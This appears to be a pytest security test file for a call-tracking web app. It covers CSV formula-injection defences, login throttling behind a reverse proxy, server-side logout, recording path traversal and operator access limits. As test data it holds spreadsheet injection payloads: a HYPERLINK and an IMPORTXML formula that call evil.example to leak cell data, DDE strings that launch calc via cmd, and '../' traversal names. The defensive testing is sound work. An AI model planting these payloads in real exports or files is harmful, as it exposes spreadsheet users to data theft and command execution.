"""Attacks on the web side, run against the real Flask app, a real database and (for the login
throttle behind a proxy) a real waitress server on loopback sockets.

CSV formula injection (journal export, `calls list --format csv`, numbers export), login
throttling behind a reverse proxy, server-side logout, recordings outside ``[recordings] dir``,
and the call card's list of other calls for operators."""
from __future__ import annotations

import csv
import datetime as dt
import http.client
import io
import re
import threading
import urllib.parse
from pathlib import Path

import pytest
from sqlalchemy import inspect, select, text

from calltracking import migrate
from calltracking.calls import export as callrecord
from calltracking.db import make_engine
from calltracking.models import Call, TrackingNumber, User, utcnow
from support.config import make_config
from support.web import PASSWORD, add_call, login

pytestmark = pytest.mark.db
ROOT = Path(__file__).resolve().parents[2]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {
    "caller_name": HYPERLINK,
    "caller": DDE,
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "+1+cmd|' /C notepad'!A0",
    "tags": "-2+3+cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula: a trigger first and not a plain number."""
    return [c for row in rows for c in row
            if c[:1] in TRIGGERS and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]


def _hostile_call(session_factory, world, linkedid="x1"):
    cid = add_call(session_factory, world["project"], linkedid, caller=HOSTILE["caller"],
                   name=HOSTILE["caller_name"], comment=HOSTILE["comment"],
                   closed_reason=HOSTILE["reason"][:40])
    from calltracking.models import Tag

    s = session_factory()
    call = s.get(Call, cid)
    call.tags = [Tag(project_id=world["project"], name=HOSTILE["tags"])]
    s.commit()
    s.close()
    return cid


# ------------------------------------------------------------------ CSV injection
def test_journal_export_neutralises_formulas_and_keeps_numbers(client_for, session_factory, world):
    _hostile_call(session_factory, world)
    add_call(session_factory, world["project"], "x2", caller="+74951112233", name="-", comment="- fine")
    body = client_for("admin").get("/calls/export.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert _formula_cells(rows) == []
    by_id = {r["linkedid"]: r for r in csv.DictReader(io.StringIO(body))}
    bad = by_id["x1"]
    assert bad["caller_name"] == "'" + HYPERLINK        # the text is kept, as text
    assert bad["caller"] == "'" + DDE
    assert bad["comment"] == "'" + HOSTILE["comment"]
    assert bad["reason"] == "'" + HOSTILE["reason"][:40]
    assert bad["tags"] == "'" + HOSTILE["tags"]
    good = by_id["x2"]
    assert good["caller"] == "+74951112233" and good["did"] == "+74950001001"  # numbers stay usable
    assert good["caller_name"] == "'-" and good["comment"] == "'- fine"
    assert good["talk_seconds"] == "60.0"


def test_calls_list_csv_neutralises_formulas(run_cli, session_factory, world):
    _hostile_call(session_factory, world)
    out = run_cli("calls", "list", "--format", "csv").output
    rows = list(csv.reader(io.StringIO(out)))
    assert _formula_cells(rows) == []
    row = dict(zip(rows[0], rows[1]))
    assert row["caller"] == "'" + DDE and row["caller_name"] == "'" + HYPERLINK
    assert row["did"] == "+74950001001"


def test_numbers_export_neutralises_descriptions_not_numbers(client_for, session_factory, world):
    s = session_factory()
    s.add(TrackingNumber(project_id=world["project"], number="+74950005001", kind="static",
                         source_id=world["source"], description='=IMPORTXML("http://evil.example","//a")'))
    s.commit()
    s.close()
    out = client_for("admin").get("/settings/numbers/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(out)))
    assert _formula_cells(rows) == []
    assert rows[1][0] == "+74950005001"
    assert rows[1][5] == "'" + '=IMPORTXML("http://evil.example","//a")'


def test_csv_cell_rule():
    from calltracking import csvsafe

    assert [csvsafe.cell(v) for v in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1")] == \
        ["'=1+1", "'+1+1", "'-1+1", "'@A1", "'\t=1", "'\r=1"]
    # a sign followed by digits only is a number, in every spreadsheet: kept as it is
    assert [csvsafe.cell(v) for v in ("+74951234567", "-12.5", "+7", "42")] == \
        ["+74951234567", "-12.5", "+7", "42"]
    assert [csvsafe.cell(v) for v in ("+7 495 123-45-67", "+7(495)1234567", "-", "+")] == \
        ["'+7 495 123-45-67", "'+7(495)1234567", "'-", "'+"]
    assert [csvsafe.cell(v) for v in (None, 3, -2.5, True, "Ivan", "")] == ["", 3, -2.5, True, "Ivan", ""]
    rendered = callrecord.render([{"caller": DDE, "caller_name": None, "did": "+74950001001"}], "csv")
    row = dict(zip(callrecord.FIELDS, next(csv.reader(io.StringIO(rendered.splitlines()[1])))))
    assert row["caller"] == "'" + DDE and row["caller_name"] == "" and row["did"] == "+74950001001"


def test_every_csv_writer_goes_through_the_helper():
    """No module writes CSV with the bare csv module (a new export would leak formulas)."""
    offenders = []
    for pkg in ("calltracking", "webui", "agi", "ami_listener"):
        for path in (ROOT / pkg).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            src = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\s*\(", src):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# ------------------------------------------------------------ login behind a proxy
class Throttle:
    """The app's login throttle with a clock the test moves."""

    def __init__(self, app):
        from webui.auth import LoginThrottle

        self.now = 1000.0
        app.extensions["calltracking"]["login_limiter"] = LoginThrottle(clock=lambda: self.now)


@pytest.fixture
def proxied(db_url, session_factory, world):
    """A real waitress server; 127.0.0.1 is the trusted reverse proxy, 127.0.0.2 is not."""
    from webui import create_app
    from webui.server import make_server

    cfg = make_config(db_url, web__listen="127.0.0.1:0", web__trusted_proxies="127.0.0.1")
    app = create_app(cfg, session_factory, testing=True)
    app.config["WTF_CSRF_ENABLED"] = False
    clock = Throttle(app)
    server = make_server(cfg, session_factory, app=app)
    t = threading.Thread(target=server.run, daemon=True)
    t.start()

    def post(username, password, client=None, source="127.0.0.1", path="/login"):
        conn = http.client.HTTPConnection("127.0.0.1", server.effective_port, timeout=10,
                                          source_address=(source, 0))
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        if client:
            headers["X-Forwarded-For"] = client
        conn.request("POST", path, urllib.parse.urlencode({"username": username, "password": password}),
                     headers)
        r = conn.getresponse()
        r.read()
        conn.close()
        return r

    post.clock = clock
    try:
        yield post
    finally:
        server.close()
        t.join(10)


def test_failures_from_one_client_never_lock_the_account_for_others(proxied):
    attacker, admin_pc = "203.0.113.66", "198.51.100.7"
    codes = [proxied("admin", "guess-%d" % i, attacker).status for i in range(12)]
    assert codes[:3] == [401, 401, 401]          # the first failures cost nothing
    assert codes[3] == 401 and set(codes[4:]) == {429}   # then that client waits
    r = proxied("admin", PASSWORD, attacker)     # even the right password: not checked while waiting
    assert r.status == 429 and int(r.getheader("Retry-After")) >= 1
    # the real admin, from their own address, logs in at once
    assert proxied("admin", PASSWORD, admin_pc).status == 302


def test_wait_doubles_per_account_and_client_then_a_success_clears_it(proxied):
    client = "203.0.113.9"
    for i in range(4):
        assert proxied("super", f"bad-{i}", client).status == 401
    waits = []
    for i in range(5):
        r = proxied("super", "bad", client)
        assert r.status == 429
        wait = int(r.getheader("Retry-After"))
        waits.append(wait)
        proxied.clock.now += wait
        assert proxied("super", f"bad-again-{i}", client).status == 401
    assert waits == [1, 2, 4, 8, 16]
    r = proxied("super", PASSWORD, client)
    assert r.status == 429
    proxied.clock.now += int(r.getheader("Retry-After"))
    assert proxied("super", PASSWORD, client).status == 302
    assert proxied("super", "bad-after-success", client).status == 401  # free again


def test_one_client_spraying_many_accounts_is_limited(proxied):
    from webui.auth import LoginThrottle

    sprayer = "203.0.113.77"
    codes = [proxied(f"user{i}", "Winter2025!", sprayer).status for i in range(LoginThrottle.CLIENT_LIMIT + 3)]
    assert codes[:LoginThrottle.CLIENT_LIMIT] == [401] * LoginThrottle.CLIENT_LIMIT
    assert set(codes[LoginThrottle.CLIENT_LIMIT:]) == {429}
    assert proxied("admin", PASSWORD, sprayer).status == 429
    assert proxied("admin", PASSWORD, "198.51.100.8").status == 302   # everybody else logs in


def test_forwarded_for_from_an_untrusted_peer_is_ignored(proxied):
    # 127.0.0.2 is not in [web] trusted_proxies: its X-Forwarded-For is a lie
    codes = [proxied("admin", "bad", f"198.51.100.{i}", source="127.0.0.2").status for i in range(6)]
    assert codes[:4] == [401] * 4 and set(codes[4:]) == {429}   # one client, whatever it claims
    assert proxied("admin", PASSWORD, "198.51.100.1", source="127.0.0.2").status == 429
    assert proxied("admin", PASSWORD, "198.51.100.1").status == 302     # via the proxy: a new client


def test_throttle_memory_is_bounded_and_waits_are_capped():
    from webui.auth import LoginThrottle

    now = [0.0]
    t = LoginThrottle(clock=lambda: now[0])
    t.MAX_KEYS = 1000
    for i in range(5000):                      # a scan from many addresses at many names
        t.failed(f"user{i}", f"10.0.{i // 250}.{i % 250}")
    assert len(t._pairs) <= 1000 and len(t._clients) <= 1000
    waits = []
    for _ in range(2000):                      # years of one patient guesser: the wait stays 15 min
        t.failed("admin", "203.0.113.1")
        waits.append(t.retry_after("admin", "203.0.113.1"))
        now[0] += waits[-1]
    assert waits[:14] == [0, 0, 0, 1, 2, 4, 8, 16, 32, 64, 128, 256, 512, 900]
    assert set(waits[14:]) == {900}


def test_client_address_rules():
    import ipaddress

    from calltracking.proxies import client_address

    trusted = (ipaddress.ip_network("127.0.0.1/32"), ipaddress.ip_network("10.0.0.0/8"))
    assert client_address("127.0.0.1", "203.0.113.5", trusted) == "203.0.113.5"
    # a client-sent X-Forwarded-For before the proxy's own hop is not believed
    assert client_address("127.0.0.1", "1.2.3.4, 203.0.113.5", trusted) == "203.0.113.5"
    # chained trusted proxies are skipped from the right
    assert client_address("127.0.0.1", "203.0.113.5, 10.1.2.3", trusted) == "203.0.113.5"
    assert client_address("192.0.2.1", "203.0.113.5", trusted) == "192.0.2.1"   # untrusted peer
    assert client_address("127.0.0.1", "", trusted) == "127.0.0.1"
    assert client_address("127.0.0.1", "garbage, 203.0.113.5", trusted) == "203.0.113.5"
    assert client_address("127.0.0.1", "203.0.113.5, garbage", trusted) == "127.0.0.1"
    assert client_address("127.0.0.1", "203.0.113.5", ()) == "127.0.0.1"
    assert client_address("127.0.0.1", "2001:db8::1", trusted) == "2001:db8::1"


def test_trusted_proxies_setting():
    from calltracking.config import ConfigError

    cfg = make_config("sqlite://")
    assert cfg.web.trusted_proxies == ()
    cfg = make_config("sqlite://", web__trusted_proxies="127.0.0.1, 10.0.0.0/8, ::1")
    assert [str(n) for n in cfg.web.trusted_proxies] == ["127.0.0.1/32", "10.0.0.0/8", "::1/128"]
    assert cfg.as_dict()["web"]["trusted_proxies"] == "127.0.0.1/32, 10.0.0.0/8, ::1/128"
    for bad in ("proxy.example.com", "0.0.0.0/0", "::/0"):
        with pytest.raises(ConfigError, match="trusted_proxies"):
            make_config("sqlite://", web__trusted_proxies=bad)


# ------------------------------------------------------------ server-side logout
def _cookie(client) -> str:
    return client.get_cookie("calltracking_session").value


def test_a_copied_cookie_dies_with_logout(app):
    c = app.test_client()
    assert login(c, "super").status_code == 302
    stolen = _cookie(c)
    c.post("/logout")
    thief = app.test_client()
    thief.set_cookie("calltracking_session", stolen)
    assert thief.get("/calls").status_code == 302          # back to the login page
    # a new login works, and gets a cookie the old one cannot stand for
    assert login(c, "super").status_code == 302 and c.get("/calls").status_code == 200
    assert thief.get("/calls").status_code == 302


def test_logout_ends_every_session_of_the_user_and_only_theirs(app):
    laptop, phone, other = app.test_client(), app.test_client(), app.test_client()
    for client, user in ((laptop, "super"), (phone, "super"), (other, "admin")):
        assert login(client, user).status_code == 302
    laptop.post("/logout")
    assert phone.get("/calls").status_code == 302
    assert other.get("/calls").status_code == 200


def test_password_change_ends_copies_of_the_old_cookie(app, session_factory):
    c = app.test_client()
    login(c, "super")
    stolen = _cookie(c)
    gen = _generation(session_factory, "super")
    r = c.post("/account", data={"action": "password", "old_password": PASSWORD, "new_password": "another-pass-1"})
    assert r.status_code == 302 and c.get("/calls").status_code == 200   # this session goes on
    assert _generation(session_factory, "super") == gen + 1
    thief = app.test_client()
    thief.set_cookie("calltracking_session", stolen)
    assert thief.get("/calls").status_code == 302


def _generation(session_factory, username):
    s = session_factory()
    try:
        return s.scalars(select(User.session_generation).where(User.username == username)).one()
    finally:
        s.close()


def test_session_generation_migration_keeps_users(db_factory):
    url = db_factory.empty()
    migrate.upgrade(url, "0009")
    eng = make_engine(url)
    try:
        with eng.begin() as conn:
            conn.execute(text("INSERT INTO users (username, password_hash, role, language, active, created_at) "
                              "VALUES ('old', 'x', 'admin', 'en', :t, :now)"),
                         {"t": True, "now": utcnow()})
        migrate.upgrade(url)
        with eng.connect() as conn:
            assert conn.execute(text("SELECT username, session_generation FROM users")).all() == [("old", 0)]
        migrate.downgrade(url, "0009")
        assert "session_generation" not in {c["name"] for c in inspect(eng).get_columns("users")}
        with eng.connect() as conn:
            assert conn.execute(text("SELECT username FROM users")).scalars().all() == ["old"]
    finally:
        eng.dispose()


# ------------------------------------------------------------ recordings outside the directory
@pytest.fixture
def rec_app(db_url, session_factory, world, tmp_path):
    from webui import create_app

    recdir = tmp_path / "monitor"
    recdir.mkdir()
    app = create_app(make_config(db_url, recordings__dir=str(recdir)), session_factory, testing=True)
    app.config["WTF_CSRF_ENABLED"] = False
    c = app.test_client()
    assert login(c, "admin").status_code == 302
    return c, recdir


def test_recordings_outside_the_directory_are_never_served(rec_app, session_factory, world, tmp_path):
    c, recdir = rec_app
    secret = tmp_path / "secret.wav"
    secret.write_bytes(b"RIFF-not-for-you" + b"\0" * 64)
    (recdir / "link.wav").symlink_to(secret)
    (recdir / "inside.wav").write_bytes(b"RIFF-fine" + b"\0" * 64)
    names = {"dotdot": "../secret.wav", "absolute": str(secret), "symlink": "link.wav",
             "deep": "2025/../../secret.wav"}
    for key, name in names.items():
        cid = add_call(session_factory, world["project"], key, recording_file=name)
        r = c.get(f"/calls/{cid}/recording")
        assert r.status_code == 404 and b"RIFF" not in r.data, key
        assert "The recording file is missing." in c.get(f"/calls/{cid}").get_data(as_text=True), key
    ok = add_call(session_factory, world["project"], "inside", recording_file=str(recdir / "inside.wav"))
    r = c.get(f"/calls/{ok}/recording")
    assert r.status_code == 200 and r.data.startswith(b"RIFF-fine")


# ------------------------------------------------------------ the call card's other calls
def test_operator_card_lists_only_calls_the_operator_may_open(client_for, session_factory, world):
    caller = "+74957770000"
    t0 = utcnow() - dt.timedelta(hours=5)
    mine = add_call(session_factory, world["project"], "h-mine", caller=caller, started=t0,
                    operator_id=world["operator"])
    rung = add_call(session_factory, world["project"], "h-rung", caller=caller, status="missed",
                    started=t0 + dt.timedelta(hours=1), operator_id=world["operator"])
    boris = add_call(session_factory, world["project"], "h-boris", caller=caller,
                     started=t0 + dt.timedelta(hours=2), operator_id=world["operator2"],
                     operator_name="Boris-secret")
    nobody = add_call(session_factory, world["project"], "h-nobody", caller=caller, status="missed",
                      started=t0 + dt.timedelta(hours=3))
    oper = client_for("operator")
    html = oper.get(f"/calls/{mine}").get_data(as_text=True)
    assert f"/calls/{rung}" in html                       # rung for it: may open it
    for hidden in (boris, nobody):
        assert f"/calls/{hidden}" not in html
        assert oper.get(f"/calls/{hidden}").status_code == 403
    assert "Boris-secret" not in html
    admin = client_for("admin").get(f"/calls/{mine}").get_data(as_text=True)
    for cid in (rung, boris, nobody):
        assert f"/calls/{cid}" in admin
